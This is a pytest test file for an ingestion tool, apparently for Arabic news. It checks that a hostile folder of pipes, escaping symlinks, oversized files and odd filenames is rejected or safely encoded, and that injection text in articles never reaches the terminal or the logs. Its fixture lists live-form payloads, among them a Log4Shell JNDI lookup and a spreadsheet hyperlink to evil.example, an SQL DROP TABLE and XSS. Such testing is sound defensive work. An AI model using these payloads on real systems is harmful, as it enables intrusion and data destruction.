"""A folder that an enemy has filled: nothing hangs, nothing is lost, and nothing of it is run or shown raw."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from flows.terminal.inert import make_inert
from tests.flows.conftest import Ingest
from tests.flows.tables import accounted, read_all


def test_the_hostile_folder_item_by_item(run: Ingest, raw: Path, warehouse: Path, tmp_path: Path) -> None:
    """Everything but plain files is a reject of its own; see the table in ``docs/reliability.md``."""
    secret = tmp_path / "secret.txt"
    secret.write_text("قال سامر: كلمة السر.")
    os.mkfifo(raw / "pipe.txt")
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(raw / "socket.txt"))
    (raw / "device.txt").symlink_to("/dev/zero")
    (raw / "out.txt").symlink_to(secret)
    (raw / "dangling.txt").symlink_to("nowhere")
    (raw / "loop.txt").symlink_to("loop.txt")
    (raw / "folder.txt").mkdir()
    (raw / "folder.txt" / "inside.txt").write_text("لا يقرأ")
    (raw / "around").symlink_to(".")
    with (raw / "sparse.txt").open("wb") as sparse:
        sparse.truncate(20 * 1024**3)
    (raw / "in.txt").symlink_to("a.txt")
    for name in (b"\xff\xfe.txt", b"new\nline.txt", b"\x1b[31mred.txt", "\u202egnp.txt".encode(), b"a b%.txt"):
        (raw / os.fsdecode(name)).write_text("خبر قصير.")
    deep = raw
    for _ in range(120):
        deep /= "deep"
    deep.mkdir(parents=True)
    (deep / "bottom.txt").write_text("خبر من القاع.")
    receipt = run()
    frames = read_all(warehouse)
    rejects = frames["rejects"].set_index("source_uri")["reason"].to_dict()
    odd = {
        f"{name}.txt": "not_a_regular_file"
        for name in ("pipe", "socket", "device", "out", "dangling", "loop", "folder")
    }
    assert rejects == odd | {"sparse.txt": "too_large", "sub/empty.txt": "empty"}
    articles = set(frames["articles"]["source_uri"])
    names = {"%FF%FE.txt", "new%0Aline.txt", "%1B[31mred.txt", "%E2%80%AEgnp.txt", "a b%25.txt"}
    assert articles == {"a.txt", "b.txt", "sub/ج.txt", "in.txt", "deep/" * 120 + "bottom.txt"} | names
    assert accounted(frames) == receipt.documents_seen == 19
    assert "كلمة السر" not in frames["articles"]["text"].str.cat()


_EVIL = (
    "<script>alert('قول')</script>",
    "\x1b[31mأحمر\x1b[0m",
    "\u202eمعكوس\u202c",
    '=HYPERLINK("http://evil.example")',
    "'; DROP TABLE quotes; --",
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a}",
    "[bold red]markup[/bold red] :smile:",
    "\x07\x08\x9b31m",
)


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Run the command on articles full of code, and return the folder of its warehouse and of all that it printed."""
    folder = tmp_path_factory.mktemp("evil")
    said = [f"قال الوزير سامر {evil} إن «الأمر {evil} صعب» وأضاف: {evil}." for evil in _EVIL]
    plain = "واستمر الاجتماع في دمشق ساعتين كاملتين ثم غادر الوفد المدينة."
    text = "\n".join(["قمة في دمشق", *said, *[plain] * 40])
    for number, name in enumerate(("article.txt", "<b>bold</b>/[red]=1+1.txt", "\x1b[2Jclear.txt")):
        path = folder / "raw" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"{text}\n{plain * number}")
    (folder / "raw" / "<i>.txt").write_bytes(b"\xff" + text.encode("utf-16"))
    printed = []
    commands = [
        ["run", "raw", "warehouse"],
        ["status"],
        ["show", "article.txt"],
        ["show", "<b>bold</b>/[red]=1+1.txt"],
        ["check"],
        ["forget", "%1B[2Jclear.txt"],
        ["forget", "<script>"],
    ]
    for command in commands:
        done = subprocess.run(
            [str(Path(sys.executable).with_name("qawl")), *command],
            cwd=folder,
            env={**os.environ, "PREFECT_HOME": str(folder / "prefect")},
            capture_output=True,
            check=False,
        )
        printed.append(done.stdout + done.stderr)
    (folder / "printed").write_bytes(b"\n".join(printed))
    return folder


def test_nothing_steers_the_terminal(evil: Path) -> None:
    printed = (evil / "printed").read_bytes().decode()
    assert "published" in printed
    assert "«الأمر" in printed  # the article was shown
    assert make_inert(printed) == printed


def test_logs_reports_and_artifacts_carry_no_word_of_an_article(evil: Path) -> None:
    shown = [path for path in (evil / "warehouse" / "reports").rglob("*") if path.is_file()]
    assert shown
    for path in shown:
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"[\u0600-\u06ff]|<script|HYPERLINK|DROP TABLE|\x1b|\u202e", text), path
    database = b"".join(path.read_bytes() for path in (evil / "prefect").glob("prefect.db*"))
    assert b"qawl-receipt" in database
    for word in ("صعب", "<script", "HYPERLINK", "DROP TABLE", "\u202e"):
        assert word.encode() not in database
        assert json.dumps(word)[1:-1].encode() not in database


def test_the_tables_carry_every_character_as_it_was(evil: Path) -> None:
    articles = pd.read_parquet(evil / "warehouse" / "articles")
    assert sorted(articles["source_uri"]) == ["<b>bold</b>/[red]=1+1.txt", "article.txt"]
    assert all(word in text for text in articles["text"] for word in _EVIL)
